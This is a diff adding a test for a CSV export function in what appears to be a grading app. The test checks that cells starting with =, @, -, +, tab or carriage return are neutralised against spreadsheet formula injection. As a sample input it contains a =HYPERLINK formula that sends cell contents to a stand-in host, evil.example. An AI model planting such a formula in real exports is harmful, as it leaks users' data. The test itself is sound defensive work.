@@ -46,4 +46,22 @@ describe("reading answers from a file", () => {
     const line = cells.map(csvCell).join(",");
     expect(csvRows(line)).toEqual({ ok: true, rows: [["plain", "a,b", 'say "hi"', "two\nlines", "", "", "3.5"]] });
   });
+
+  // issue 11, defect 10: the grade and share pages' CSV wrote answers such as =HYPERLINK(...), @SUM(...)
+  // and the real answer "-Easier to debugg" as plain cells, which a spreadsheet runs as formulas
+  it("neutralises cells a spreadsheet would run as formulas: a leading ' and quotes (OWASP CSV injection)", () => {
+    const leak = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    expect(csvCell(leak)).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"`);
+    expect(csvCell("@SUM(A1:A9)")).toBe(`"'@SUM(A1:A9)"`);
+    expect(csvCell("-Easier to debugg")).toBe(`"'-Easier to debugg"`);
+    expect(csvCell("+1 for stacks")).toBe(`"'+1 for stacks"`);
+    expect(csvCell("\t=1+1")).toBe(`"'\t=1+1"`);
+    expect(csvCell("\r=1+1")).toBe(`"'\r=1+1"`);
+    // read back, the text is all there behind the quote mark
+    expect(csvRows([leak, "-x"].map(csvCell).join(","))).toEqual({ ok: true, rows: [[`'${leak}`, "'-x"]] });
+    // only the first character counts; numbers (ours: ranks, scores) stay numbers
+    expect(csvCell("a = b + c")).toBe("a = b + c");
+    expect(csvCell(-1.5)).toBe("-1.5");
+    expect(csvCell(3)).toBe("3");
+  });
 });
